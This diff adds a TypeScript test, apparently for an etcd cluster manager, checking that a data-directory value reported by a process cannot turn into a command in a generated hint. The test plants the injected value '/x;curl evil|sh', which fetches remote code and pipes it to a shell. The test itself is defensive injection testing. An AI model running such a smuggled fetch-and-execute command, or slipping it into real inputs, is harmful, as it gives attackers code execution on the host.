@@ -101,6 +101,16 @@ test('data that the process has elsewhere is not lost', () => {
   expect(reason?.hint).not.toContain('repair')
 })
 
+test('what a process says of itself becomes no command', () => {
+  const data = '/x;curl evil|sh'
+  const odd = withMember(settled, 'etcd01', ({ unit }) => ({
+    unit: { ...unit, environment: { ...unit.environment, ETCD_DATA_DIR: data } },
+  }))
+  const [reason] = reasonsOf(next(intent, odd))
+  expect(reason?.hint).toMatch(/^no data is lost\. Move it by hand/)
+  expect(reason?.hint).not.toContain('evil')
+})
+
 test('where the process keeps its data counts only of a process from our unit, and against both files', () => {
   const state = settled.hosts['etcd01']?.member
   if (state === undefined) throw new TypeError('no member')
